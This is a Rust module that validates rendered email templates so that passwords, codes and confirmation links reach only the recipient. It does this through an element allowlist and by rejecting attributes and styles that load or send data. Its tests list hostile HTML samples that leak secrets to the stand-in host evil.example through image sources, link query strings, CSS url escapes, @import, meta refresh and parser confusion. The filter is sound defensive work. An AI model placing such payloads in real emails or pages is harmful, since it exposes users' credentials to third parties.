//! Secrets in words of the office's own: the reader sees them, and nobody else
//! (promise 1). A mail loads nothing, and only a link to the page that a secret
//! opens has it in its address.
//!
//! Samples can't show what a template does for others, so every mail in the
//! office's words is held to this, with its own values, before it is sent.

use html5gum::emitters::default::{DefaultEmitter, StartTag};
use html5gum::{Token, Tokenizer};
use minijinja::Value;

use crate::mail::message::{LOGO, Rendered};

/// Fields that nobody but the reader may see.
pub(super) const SECRETS: [&str; 5] = ["password", "code", "link", "confirm_url", "page_url"];

/// The elements of a mail; none of them loads or sends anything by itself.
const ELEMENTS: [&str; 43] = [
    "a",
    "b",
    "blockquote",
    "body",
    "br",
    "center",
    "code",
    "div",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "head",
    "hr",
    "html",
    "img",
    "i",
    "li",
    "meta",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "style",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "u",
    "ul",
    "caption",
    "wbr",
];
/// Those that don't end a word.
const WITHIN_WORDS: [&str; 15] =
    ["a", "b", "code", "em", "font", "i", "s", "small", "span", "strong", "sub", "sup", "u", "wbr", "q"];
/// Attributes that load or send.
const LOADING: [&str; 9] =
    ["action", "background", "data", "formaction", "http-equiv", "ping", "poster", "src", "srcset"];

/// Looks whether a mail filled in with `context` keeps its secrets.
///
/// # Errors
/// The part, and what is wrong with it.
pub(super) fn kept(context: &Value, mail: &Rendered) -> Result<(), (&'static str, String)> {
    let secrets: Vec<(&str, String)> = SECRETS
        .into_iter()
        .filter_map(|field| Some((field, context.get_attr(field).ok()?.as_str()?.to_owned())))
        .collect();
    words(&mail.text, &secrets).map_err(|problem| ("body.txt", problem))?;
    html(&mail.html, &secrets).map_err(|problem| ("body.html", problem))
}

/// In words, a secret is no part of something longer, such as an address.
fn words(text: &str, secrets: &[(&str, String)]) -> Result<(), String> {
    for (field, secret) in secrets {
        let mut places = text.match_indices(secret.as_str());
        if places.any(|(at, _)| text[..at].ends_with(|before: char| !before.is_whitespace())) {
            return Err(format!("{{{{ {field} }}}} can’t follow something else without a space"));
        }
    }
    Ok(())
}

fn html(source: &str, secrets: &[(&str, String)]) -> Result<(), String> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let mut read = String::new();
    let mut raw = false;
    for token in Tokenizer::new_with_emitter(source, emitter) {
        let Ok(token) = token;
        match token {
            Token::StartTag(tag) => {
                element(&tag, secrets)?;
                let name = text_of(&tag.name);
                raw = ["style", "title"].contains(&name.as_str());
                read.push_str(gap(&name));
            }
            Token::EndTag(tag) => {
                raw = false;
                read.push_str(gap(&text_of(&tag.name)));
            }
            Token::String(text) => {
                let text = text_of(&text.value);
                if raw {
                    style(&text)?;
                }
                read.push_str(&text);
            }
            // Some programs read what stands in comments.
            Token::Comment(comment) => html(&text_of(&comment.value), secrets)?,
            Token::Doctype(_) | Token::Error(_) => {}
        }
    }
    words(&read, secrets)
}

fn text_of(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// What a tag is between the words beside it.
fn gap(name: &str) -> &'static str {
    if WITHIN_WORDS.contains(&name) { "" } else { "\n" }
}

fn element(tag: &StartTag<()>, secrets: &[(&str, String)]) -> Result<(), String> {
    let name = text_of(&tag.name);
    if !ELEMENTS.contains(&name.as_str()) {
        return Err(format!("<{name}> can’t be in a mail: it could load or send something"));
    }
    for (key, value) in &tag.attributes {
        let (key, value) = (text_of(key), text_of(&value.value));
        // The logo comes with the mail.
        if name == "img" && key == "src" && value == LOGO {
            continue;
        }
        if LOADING.contains(&key.as_str()) || key.starts_with("on") || key.contains(':') {
            return Err(format!("{key} can’t be in a mail: it could load or send something"));
        }
        if key == "style" || value.contains('<') {
            style(&value)?;
        }
        let is_link = name == "a" && key == "href";
        if key == "href" && !(is_link && has_plain_scheme(&value)) {
            return Err("href is for <a>, and begins with https://, http://, mailto: or tel:".into());
        }
        let held = secrets.iter().find(|(_, secret)| value.contains(secret.as_str()));
        if let Some((field, _)) =
            held.filter(|(field, secret)| !is_link || value != *secret || is_typed(field))
        {
            return Err(format!("{{{{ {field} }}}} can’t be a part of an attribute or of another address"));
        }
    }
    Ok(())
}

/// Whether a secret is typed by its reader, and so is never in an address.
fn is_typed(field: &str) -> bool {
    ["password", "code"].contains(&field)
}

fn has_plain_scheme(address: &str) -> bool {
    ["https://", "http://", "mailto:", "tel:"].iter().any(|scheme| address.starts_with(scheme))
}

/// Styles load nothing, and nothing hides in them.
fn style(text: &str) -> Result<(), String> {
    let lower = text.to_lowercase();
    let found =
        ["url(", "image(", "image-set(", "@import", "\\", "<"].into_iter().find(|part| lower.contains(part));
    found.map_or(Ok(()), |part| {
        Err(format!("there is no {part} in the styles of a mail: it could load something"))
    })
}

#[cfg(test)]
mod tests {
    use minijinja::context;

    use super::*;

    fn problem(text: &str, html: &str) -> Option<String> {
        let fields = context! { password => "K7QM-2RXD-9TWP", link => "https://shop.example/confirm/01&2" };
        let mail =
            Rendered { subject: String::new(), text: text.to_owned().into(), html: html.to_owned().into() };
        kept(&fields, &mail).err().map(|(_, problem)| problem)
    }

    #[test]
    fn promise_01_a_mail_hands_its_secret_to_nobody_but_its_reader() {
        for html in [
            "<img src=\"https://evil.example/x.png\">",
            "<IMG SRC=//evil.example/K7QM-2RXD-9TWP>",
            "<a href=\"https://evil.example/?p=K7QM-2RXD-9TWP\">In</a>",
            "<a href=\"https://evil.example/?l=https://shop.example/confirm/01&amp;2\">In</a>",
            "<a href=\"K7QM-2RXD-9TWP\">In</a>",
            "<a href=\"javascript:alert(1)\">In</a>",
            "<p title=\"K7QM-2RXD-9TWP\">x</p>",
            "<td background=\"https://evil.example/\">",
            "<p style=\"background: u\\72l(//evil.example)\">",
            "<p style=\"background: URL(//evil.example)\">",
            "<style>@import '//evil.example/';</style>",
            "<title><a title=\"</title><img src=//evil.example>\"></title>",
            "<!--[if mso]><img src=\"//evil.example\"><![endif]-->",
            "<form><input name=q></form>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link rel=stylesheet href=\"//evil.example\">",
            "<base href=\"https://evil.example\">",
            "<svg><image xlink:href=\"//evil.example\"/></svg>",
            "<p onclick=\"x()\">",
            "<p>https://evil.example/?p=K7QM-2RXD-9TWP</p>",
            "<p>https://evil.example/?p=<b>K7QM-2RXD-9TWP</b></p>",
        ] {
            assert!(problem("", html).is_some(), "{html}");
        }
        assert!(problem("https://evil.example/?p=K7QM-2RXD-9TWP", "").is_some());
    }

    #[test]
    fn ordinary_mails_pass() {
        for html in [
            "<p>Word: <b>K7QM-2RXD-9TWP</b>.</p><td>K7QM-2RXD-9TWP</td>",
            "<a href=\"https://shop.example/confirm/01&amp;2\">https://shop.example/confirm/01&amp;2</a>",
            "<a href=\"https://elsewhere.example/\">Terms</a> <a href=\"mailto:help@shop.example\">Help</a>",
            "<!--[if mso]><table width=\"600\"><tr><td><![endif]--><style>a { color: #123456 }</style>",
        ] {
            assert_eq!(problem("Word:\nK7QM-2RXD-9TWP\n", html), None, "{html}");
        }
    }
}
